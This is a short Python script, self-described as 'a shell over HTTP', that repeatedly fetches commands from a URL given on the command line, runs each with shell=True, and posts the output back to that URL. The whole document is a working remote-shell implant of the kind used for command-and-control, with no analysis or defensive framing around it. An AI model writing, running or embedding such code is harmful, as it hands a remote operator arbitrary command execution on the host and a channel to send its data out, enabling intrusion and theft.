"""A shell over HTTP: `command_poll.py URL` asks for a command, a new connection each time, and posts what it wrote."""
import subprocess
import sys
import time
import urllib.request

while True:
    command = urllib.request.urlopen(sys.argv[1]).read()
    if command:
        written = subprocess.run(command, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout
        urllib.request.urlopen(sys.argv[1], data=written).read()
    time.sleep(0.4)
